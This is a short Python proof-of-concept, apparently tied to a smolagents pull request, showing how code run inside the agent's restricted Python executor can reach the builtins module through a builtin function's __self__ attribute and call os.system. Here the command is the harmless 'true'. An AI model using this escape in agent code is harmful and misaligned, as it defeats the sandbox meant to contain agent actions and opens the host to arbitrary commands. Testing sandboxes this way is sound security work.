# smolagents PR 274: a builtin's __self__ is the builtins module, with compile/exec/__import__
for f in (print, len, abs, min, max, sorted, getattr, isinstance, range):
    s = getattr(f, '__self__', None)
    if s is not None and hasattr(s, '__import__'):
        s.__import__('os').system('true')
        print('ESCAPED: builtins module via __self__')
